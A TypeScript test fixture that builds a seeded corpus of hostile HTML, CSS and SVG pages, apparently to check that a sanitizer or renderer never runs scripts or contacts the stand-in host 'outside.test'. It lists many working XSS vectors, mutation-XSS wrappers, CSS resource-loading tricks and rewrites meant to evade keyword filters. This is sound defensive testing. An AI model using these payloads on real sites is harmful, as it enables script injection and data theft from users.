import { random } from './random.js';

/** Where everything hostile leads: a host that must never be asked. */
export const OUTSIDE = 'http://outside.test';

/** A file of the corpus, with what it tries in words. */
export interface HostileFile {
  readonly path: string;
  readonly body: string;
}

/** What a script would do if it ran: say so, ask a foreign host, and leave. */
const ACT = `window.uvRan=1;fetch('${OUTSIDE}/ran');location='${OUTSIDE}/left'`;

/** Ways to run a script or to move, as HTML. Sources: HTML §8.1 scripting, §4.2.5.3 pragma directives, §7.4 navigation; SVG 2 §15; SVG Animations 2. */
const RUNNING: readonly string[] = [
  `<script>${ACT}</script>`,
  `<ScRiPt >${ACT}</script >`,
  `<script src="${OUTSIDE}/s.js"></script>`,
  `<script type=module src="//outside.test/m.js"></script>`,
  `<script/src=data:,${encodeURIComponent(ACT)}></script>`,
  `<img src=x onerror="${ACT}">`,
  `<img src=x onerror&#61;"${ACT}">`,
  `<img/src=x/onerror="${ACT}">`,
  `<svg onload="${ACT}">`,
  `<svg/onload="${ACT}"/>`,
  `<body onload="${ACT}">`,
  `<details open ontoggle="${ACT}"><summary>a`,
  `<video><source onerror="${ACT}"></video>`,
  `<input autofocus onfocus="${ACT}">`,
  `<marquee onstart="${ACT}">a</marquee>`,
  `<div style="animation: x 1s" onanimationstart="${ACT}">`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<iframe src="data:text/html,<script>${encodeURIComponent(ACT)}</script>"></iframe>`,
  `<object data="javascript:${ACT}"></object>`,
  `<object data="${OUTSIDE}/o.svg"></object>`,
  `<embed src="${OUTSIDE}/e.svg">`,
  `<applet code=x archive="${OUTSIDE}/a.jar"></applet>`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}/refresh">`,
  `<META HTTP-EQUIV="&#82;efresh" content="0; url='${OUTSIDE}/r2'">`,
  `<base href="${OUTSIDE}/"><img src=pic.png>`,
  `<link rel=prefetch href="${OUTSIDE}/pre">`,
  `<link rel=dns-prefetch href="//outside.test">`,
  `<link rel="stylesheet" href="${OUTSIDE}/a.css">`,
  `<link rel=modulepreload href="${OUTSIDE}/m.js">`,
  `<link rel=icon href="${OUTSIDE}/i.ico">`,
  `<link rel=preload as=image imagesrcset="${OUTSIDE}/p.png 1x">`,
  `<link rel=manifest href="${OUTSIDE}/m.json">`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><script href="${OUTSIDE}/s.js"/></svg>`,
  `<svg><animate onbegin="${ACT}" attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to="${ACT}"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${ACT}"/><text>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${ACT}'/>#x"/></svg>`,
  `<svg><image href="${OUTSIDE}/i.png"/></svg>`,
  `<svg><feImage href="${OUTSIDE}/f.png"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${ACT}"></iframe></foreignObject></svg>`,
  `<math href="javascript:${ACT}">a</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${ACT}">a`,
  `<form action="${OUTSIDE}/f"><button autofocus formaction="javascript:${ACT}">a</button></form>`,
  `<a href="jav&#x09;ascript:${ACT}">a</a>`,
  `<a href=" &#1;javascript:${ACT}">a</a>`,
  `<a ping="${OUTSIDE}/ping" href=#>a</a>`,
  `<img srcset="${OUTSIDE}/1.png 1x, ${OUTSIDE}/2.png 2x">`,
  `<picture><source srcset="${OUTSIDE}/p.webp"><img src=x></picture>`,
  `<video poster="${OUTSIDE}/v.png" src="${OUTSIDE}/v.mp4" autoplay></video>`,
  `<audio src="${OUTSIDE}/a.mp3" autoplay></audio>`,
  `<track src="${OUTSIDE}/t.vtt">`,
  `<input type=image src="${OUTSIDE}/b.png">`,
  `<table background="${OUTSIDE}/t.png"><tr background="${OUTSIDE}/r.png"><td background="//outside.test/d.png">a`,
  `<body background="${OUTSIDE}/b.png">`,
  `<frameset><frame src="${OUTSIDE}/f"></frameset>`,
  `<portal src="${OUTSIDE}/p"></portal>`,
  `<template shadowrootmode=open><script>${ACT}</script><img src=x onerror="${ACT}"></template>`,
  `<x-a><template shadowrootmode=open><link rel=stylesheet href="${OUTSIDE}/s.css"></template></x-a>`,
  `<dialog open oncancel="${ACT}"><form method=dialog>`,
  `<object type="text/html" data="data:text/html,<script>${ACT}</script>"></object>`,
];

/** Stylesheets that ask other hosts or bring others in. Sources: CSS Syntax 3 §4.3, CSS Values 4 §4.5, CSS Images 4 §2.3, CSS Cascading 5 §2. */
const STYLING: readonly string[] = [
  `@import "${OUTSIDE}/a.css";`,
  `@import url(${OUTSIDE}/b.css) layer(x);`,
  `@\\69mport '//outside.test/c.css';`,
  `@import/**/url("${OUTSIDE}/d.css");`,
  `body { background: url(${OUTSIDE}/a.png) }`,
  `body { background: u\\72l("${OUTSIDE}/b.png") }`,
  `body { background: \\75 rl(${OUTSIDE}/c.png) }`,
  `body { background: URL( '${OUTSIDE}/d.png' ) }`,
  `body { background: image-set("${OUTSIDE}/e.png" 1x) }`,
  `body { background: -webkit-image-set(url(${OUTSIDE}/f.png) 1x) }`,
  `body { background: im\\61ge-set('//outside.test/g.png' 1x) }`,
  `:root { --a: url(${OUTSIDE}/h.png) } body { background: var(--a) }`,
  `:root { --a: "${OUTSIDE}/i.png" } body { background: image-set(var(--a) 1x) }`,
  `@font-face { font-family: x; src: url(${OUTSIDE}/f.woff2) } body { font-family: x }`,
  `body { cursor: url(${OUTSIDE}/c.cur), auto }`,
  `li { list-style: url(${OUTSIDE}/l.png) }`,
  `p::before { content: url(${OUTSIDE}/p.png) }`,
  `p { border-image: url(${OUTSIDE}/b.png) 1 }`,
  `p { mask: url(${OUTSIDE}/m.svg#m) }`,
  `p { filter: url(${OUTSIDE}/f.svg#f) }`,
  `p { clip-path: url(${OUTSIDE}/c.svg#c) }`,
  `p { offset-path: url(${OUTSIDE}/o.svg#o) }`,
  `p { background: cross-fade(url(${OUTSIDE}/x.png), url(${OUTSIDE}/y.png)) }`,
  `p { shape-outside: url(${OUTSIDE}/s.png) }`,
  `</style><img src=x onerror="${ACT}"><style>`,
  `<!-- --></style><script>${ACT}</script>`,
  `body { behavior: url(${OUTSIDE}/b.htc); -moz-binding: url(${OUTSIDE}/b.xml#x) }`,
  `@namespace url(${OUTSIDE}/n); p { background: url(//outside.test/q.png) }`,
  `p { background: src("${OUTSIDE}/r.png") }`,
];

/** What a piece of markup may stand in: what is read otherwise once written out, above all. Source: HTML §13.2.6 and §13.3, with its note on what does not come back as it was. */
const AROUND: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['<p>', '</p>'],
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<svg><style>', '</style></svg>'],
  ['<math><style>', '</style></math>'],
  ['<noscript>', '</noscript>'],
  ['<noscript><p title="</noscript>', '">'],
  ['<textarea>', '</textarea>'],
  ['<title>', '</title>'],
  ['<xmp>', '</xmp>'],
  ['<iframe>', '</iframe>'],
  ['<noembed>', '</noembed>'],
  ['<noframes>', '</noframes>'],
  ['<plaintext>', ''],
  ['<!--', '-->'],
  ['<!--><', '>-->'],
  ['<![CDATA[', ']]>'],
  ['<svg><![CDATA[', ']]></svg>'],
  ['<select><option>', '</option></select>'],
  ['<table>', '</table>'],
  ['<table><caption><svg>', '</svg></table>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', '</style>'],
  ['<svg></p><style><a id="</style>', '">'],
  ['<math><annotation-xml encoding="text/html"><style><p title="</style>', '">'],
  ['<svg><desc><noscript>&lt;/noscript>', '</noscript></desc></svg>'],
  ['<template>', '</template>'],
  ['<template shadowrootmode=open>', '</template>'],
  ['<x-a><template shadowmode=open>', '</template></x-a>'],
  ['<svg><foreignObject><math><mi><style>', '</style></mi></math></foreignObject></svg>'],
  ['<a title="', '">'],
  ['<a title=\'">', "'>"],
  ['<style><!--</style>', '--></style>'],
  ['<svg><title><style>', '</style></title></svg>'],
  ['<b><i><u><s>', ''],
  ['<a><div><a>', '</a>'],
];

/** Ways to write the same thing so that a list of words does not find it. */
const WRITTEN: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => text.replaceAll('<', '&lt;'),
  (text) => text.replace(/on(\w+)=/g, (_, name: string) => `ON${name.toUpperCase()}=`),
  (text) => text.replaceAll('javascript:', 'java\nscript:'),
  (text) => text.replaceAll('http://', 'http:/\\'),
  (text) => text.replaceAll('http:', 'HTTP:'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replaceAll('"', ''),
];

/** A corpus drawn by a seed: pages first, then stylesheets and pictures that pages use. Every page is reachable by its path. */
export function hostileCorpus(seed: number, pages: number): readonly HostileFile[] {
  const draw = random(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(draw() * list.length)];
  const files: HostileFile[] = [];
  for (let i = 0; i < pages; i += 1) {
    const [before, after] = pick(AROUND);
    const isStyle = draw() < 0.35;
    const css = pick(STYLING);
    const payload = !isStyle
      ? pick(WRITTEN)(pick(RUNNING))
      : pick<(text: string) => string>([
          (text) => `<style>${text}</style>`,
          (text) => `<p style="${text.replace(/^[^{]*\{|\}[^}]*$/g, '').replaceAll('"', '&quot;')}">a</p>`,
          (text) =>
            `<svg><style>${text}</style><rect fill="${text.replace(/^[^:]*:|\}.*$/g, '').replaceAll('"', '&quot;')}"/></svg>`,
        ])(css);
    const link = draw() < 0.2 ? `<link rel=stylesheet href="c${i}.css">` : '';
    const picture =
      draw() < 0.2 ? `<img src="p${i}.svg"><object data="p${i}.svg"></object><iframe src="p${i}.svg"></iframe>` : '';
    files.push({
      path: `h${i}.html`,
      body: `<!doctype html><html><head>${link}<title>h${i}</title></head><body>${before}${payload}${after}${picture}<p>end</p></body></html>`,
    });
    if (link !== '') files.push({ path: `c${i}.css`, body: `${pick(STYLING)}\n${pick(STYLING)}` });
    if (picture !== '')
      files.push({
        path: `p${i}.svg`,
        body: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${pick(RUNNING)}<style>${pick(STYLING)}</style></svg>`,
      });
  }
  return files;
}
